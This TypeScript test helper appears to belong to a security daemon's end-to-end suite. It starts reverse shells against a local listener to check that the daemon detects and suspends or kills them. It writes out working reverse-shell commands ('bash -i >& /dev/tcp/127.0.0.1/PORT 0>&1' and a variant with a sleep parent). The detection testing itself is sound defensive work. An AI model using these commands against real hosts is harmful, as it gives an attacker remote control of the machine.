import { spawn } from 'node:child_process';
import { copyFileSync, existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { createServer as createNetServer, type Server, type Socket } from 'node:net';
import { join } from 'node:path';
import { setTimeout as delay } from 'node:timers/promises';
import { parse } from 'yaml';
import { probeProcessConnector } from '../../src/os/process-connector.ts';
import { until } from './daemon.ts';

/** Why no reverse shell can be tried here, or undefined when one can. */
export const whyNoShell = async (): Promise<string | undefined> => {
  if (process.getuid?.() !== 0) return 'needs root';
  if (!existsSync('/bin/bash')) return 'needs bash';
  return probeProcessConnector();
};

/**
 * Settings with which a daemon that really acts judges nothing on this machine but what a test starts from a folder under
 * /tmp: every other place is trusted.
 */
export const ONLY_TEST_PROGRAMS = {
  trusted_executables: readdirSync('/')
    .filter((name) => name !== 'tmp' && statSync(`/${name}`, { throwIfNoEntry: false })?.isDirectory() === true)
    .map((name) => `/${name}/`),
};

/** The rule of a preset that ends processes, for reverse shells only. */
export const killRuleOf = (preset: string): { readonly [key: string]: unknown } => {
  const table: { readonly policies: { readonly [module: string]: { readonly actions: readonly { readonly action: string }[] } } } = parse(
    readFileSync(join(import.meta.dirname, `../../presets/${preset}.yaml`), 'utf8'),
  );
  const rule = table.policies['runtime_watcher']?.actions.find(({ action }) => action === 'kill_process');
  if (rule === undefined) throw new Error(`${preset} ends no process`);
  return { ...rule, types: ['reverse_shell'] };
};

/** A configuration that acts on the shells of this test and on nothing else of the machine. */
export const shellConfig = (preset: string, enforcement: { readonly [key: string]: unknown } = {}): { readonly [key: string]: unknown } => ({
  sources: { auto: false, processes: true, journald: false },
  modules: { runtime_watcher: { settings: ONLY_TEST_PROGRAMS } },
  enforcement: { dry_run: false, preset, policies: { runtime_watcher: { max_actions_per_min: 500, actions: [killRuleOf(preset)] } }, ...enforcement },
});

/** Waits until no other run on this machine watches processes: two daemons would suspend each other's shells. Ends with this process. */
export const watchAlone = (): Promise<{ readonly end: () => void }> =>
  new Promise((resolve) => {
    const claim = createNetServer();
    const tryAgain = (): void => void claim.listen({ path: '\0onesec-e2e-processes' });
    claim.on('error', () => setTimeout(tryAgain, 500));
    claim.once('listening', () => resolve({ end: () => claim.close() }));
    tryAgain();
  });

export type ReverseShell = {
  readonly pid: number;
  /** The shell and everything under it now, by number. */
  readonly tree: () => readonly number[];
  /** The letters of /proc/<pid>/stat of all that was in the tree at `tree()`; `-` for what is gone. */
  readonly states: () => string;
  /** Whether it answers a command over its connection within the time. */
  readonly answers: (withinMs?: number) => Promise<boolean>;
  readonly isConnected: () => boolean;
  /** ms from its start until all of it was seen suspended. */
  readonly suspended: (withinMs?: number) => Promise<number>;
  readonly isDead: () => boolean;
  /** Ends what is left of it. */
  readonly end: () => Promise<void>;
};

/** A listener as an attacker has one, and shells of this host that call it. Copies bash into `directory`. */
export const createAttacker = async (directory: string) => {
  const bash = join(directory, 'bash');
  copyFileSync('/bin/bash', bash);
  const sockets: Socket[] = [];
  let asked = 0;
  const server: Server = createNetServer((socket) => {
    socket.on('error', () => undefined); // a killed shell resets its connection
    socket.resume(); // unread, its end would never be seen
    sockets.push(socket);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  const port = typeof address === 'object' && address !== null ? address.port : 0;
  /** As typed by hand; `family` has a parent and a sibling around the shell. */
  const commands = {
    single: `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`,
    family: `sleep 600 & bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1; true`,
  };
  const environment = { PATH: `${directory}:/usr/bin:/bin`, HOME: directory, HISTFILE: '/dev/null' };

  const wrap = (pid: number, socketIndex: number, startedAt: number): ReverseShell => {
    let known: readonly number[] = [pid];
    const tree = (): readonly number[] => {
      known = [...new Set([...known, ...descendantsOf(pid)])];
      return known;
    };
    const states = (): string => tree().map(stateOf).join('');
    const isDead = (): boolean => tree().every((member) => '-ZX'.includes(stateOf(member)));
    return {
      pid,
      tree,
      states,
      isDead,
      isConnected: () => sockets[socketIndex]?.destroyed === false,
      answers: async (withinMs = 2000) => {
        const socket = sockets[socketIndex];
        if (socket === undefined || socket.destroyed) return false;
        asked += 1;
        const [left, right] = [asked * 1000, pid];
        let text = '';
        const onData = (chunk: Buffer): void => {
          text += chunk.toString();
        };
        socket.on('data', onData);
        socket.write(`echo sum:$((${left}+${right})):\n`);
        const deadline = performance.now() + withinMs;
        while (!text.includes(`sum:${left + right}:`) && performance.now() < deadline) await delay(5);
        socket.off('data', onData);
        return text.includes(`sum:${left + right}:`);
      },
      suspended: async (withinMs = 5000) => {
        await until(`all of ${pid} is suspended (${states()})`, () => /^T+$/.test(states()), withinMs, 1);
        return performance.now() - startedAt;
      },
      end: async () => {
        for (const member of tree()) killOne(member);
        await until(`${pid} is gone`, isDead);
        sockets[socketIndex]?.destroy();
      },
    };
  };

  return {
    bash,
    port,
    commands,
    environment,
    /** Starts a shell that calls back, in a session of its own. */
    start: async (kind: keyof typeof commands = 'single'): Promise<ReverseShell> => {
      const index = sockets.length;
      const startedAt = performance.now();
      const child = spawn(bash, ['-c', commands[kind]], { detached: true, stdio: 'ignore', env: environment, cwd: directory });
      await until('the shell calls', () => sockets.length > index, 5000, 2);
      return wrap(child.pid ?? 0, index, startedAt);
    },
    /** As `start`, from within a shell of somebody else: `run` makes it run the words, and tells the number of the process that does. */
    startUnder: async (run: (command: string) => Promise<number>, kind: keyof typeof commands = 'single'): Promise<ReverseShell> => {
      const index = sockets.length;
      const startedAt = performance.now();
      const pid = await run(`"${bash}" -c '${commands[kind]}'`);
      await until('the shell calls', () => sockets.length > index, 5000, 2);
      return wrap(pid, index, startedAt);
    },
    close: async () => {
      for (const socket of sockets) socket.destroy();
      await new Promise((resolve) => server.close(resolve));
    },
  };
};

export type Attacker = Awaited<ReturnType<typeof createAttacker>>;

/** The letter of /proc/<pid>/stat, `-` when there is no such process. */
export const stateOf = (pid: number): string => fieldsOf(pid)?.[0] ?? '-';

const fieldsOf = (pid: number): readonly string[] | undefined => {
  try {
    const text = readFileSync(`/proc/${pid}/stat`, 'latin1');
    return text.slice(text.lastIndexOf(')') + 2).split(' ');
  } catch {
    // Gone.
    return undefined;
  }
};

const descendantsOf = (root: number): readonly number[] => {
  const children = new Map<number, number[]>();
  for (const name of readdirSync('/proc')) {
    const parent = /^\d+$/.test(name) ? Number(fieldsOf(Number(name))?.[1] ?? Number.NaN) : Number.NaN;
    if (Number.isNaN(parent)) continue;
    children.set(parent, [...(children.get(parent) ?? []), Number(name)]);
  }
  const found: number[] = [];
  for (let queue = [...(children.get(root) ?? [])]; queue.length > 0; ) {
    const pid = queue.shift() ?? 0;
    found.push(pid);
    queue = [...queue, ...(children.get(pid) ?? [])];
  }
  return found;
};

const killOne = (pid: number): void => {
  try {
    process.kill(pid, 'SIGKILL');
  } catch {
    // It is gone already.
  }
};
